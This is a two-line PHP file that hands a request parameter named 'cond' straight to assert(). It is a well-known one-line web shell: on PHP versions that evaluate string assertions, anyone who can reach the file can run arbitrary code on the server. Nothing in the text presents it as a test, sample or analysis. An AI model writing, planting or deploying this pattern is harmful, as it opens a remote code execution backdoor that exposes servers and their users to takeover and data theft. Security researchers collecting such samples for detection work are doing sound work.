<?php
assert($_REQUEST['cond']);
